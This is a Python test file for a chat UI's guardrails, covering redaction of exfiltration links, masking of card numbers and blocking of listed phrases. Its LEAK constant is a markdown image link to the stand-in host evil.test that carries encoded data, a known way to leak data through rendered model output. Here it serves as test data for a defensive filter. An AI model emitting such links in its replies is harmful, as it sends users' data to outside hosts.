"""Guardrails on the screen: what is shown, what is marked, and what is not sent."""

from agents.guardrails.conversation_guard import ConversationGuard
from agents.guardrails.guardrails import Guardrails
from agents.guardrails.policy import Policy, mode_actions
from agents.guardrails.redaction_store import RedactionStore

LEAK = "![x](https://evil.test/a.png?q=c2VjcmV0IGRhdGE)"


def guard(folder, mode="check", **policy):
    guardrails = Guardrails(Policy(*mode_actions(mode), **policy))
    return ConversationGuard(lambda: guardrails, RedactionStore(folder / "redactions.db"))


async def test_an_address_that_sends_data_is_never_on_the_screen(screen, tmp_path):
    pieces = ["Look: ", *(LEAK[at : at + 5] for at in range(0, len(LEAK), 5)), " done"]
    async with screen(pieces, guard=guard(tmp_path)) as ui:
        await ui.ask("Show me.")
        for _ in range(len(pieces) + 1):
            ui.client.step(1)
            await ui.pilot.pause()
            assert "evil.test" not in ui.text
        await ui.answered()
        await ui.shown("done", "guardrails: 1 address that sends data removed")
        assert "evil.test" not in ui.text
        assert ui.last.source == "Look: ![x]([exfiltration removed]) done"
        await ui.press("escape", "y")
        assert LEAK not in ui.app.clipboard


async def test_a_replaced_card_number_is_shown_and_marked(screen, tmp_path):
    async with screen("Charged ⟦CARD_1⟧.", guard=guard(tmp_path, "redact")) as ui:
        await ui.ask("Charge 4111 1111 1111 1111.")
        await ui.answered()
        await ui.shown(
            "Charge 4111 1111 1111 1111.",
            "guardrails: 1 card number replaced before the model read it",
            "Charged 4111 1111 1111 1111.",
        )
        assert "⟦CARD_1⟧" in ui.client.detokenize(ui.client.requests[-1].prompt_ids)
        await ui.press("escape", "k", "k", "e")
        assert ui.prompt.text == "Charge 4111 1111 1111 1111."
        await ui.press("enter")
        assert any("unchanged" in toast for toast in ui.toasts)


async def test_a_blocked_message_stays_in_the_prompt(screen, tmp_path):
    async with screen("ok", guard=guard(tmp_path, blocklist=("secret plan",))) as ui:
        await ui.ask("the secret plan")
        await ui.until(lambda: ui.toasts, "the refusal")
        assert ui.toasts == ["The message is not sent: it contains a blocked phrase."]
        assert ui.prompt.text == "the secret plan"
        assert ui.client.requests == []


async def test_an_answer_with_a_blocked_phrase_ends_there(screen, tmp_path):
    answer = ["the ", "secret ", "plan ", "is this"]
    async with screen(answer, guard=guard(tmp_path, blocklist=("secret plan",))) as ui:
        await ui.ask("Tell me.")
        await ui.answered()
        await ui.shown("ended by the guardrails", "guardrails: ended at 1 blocked phrase")
        assert "plan" not in ui.last.source
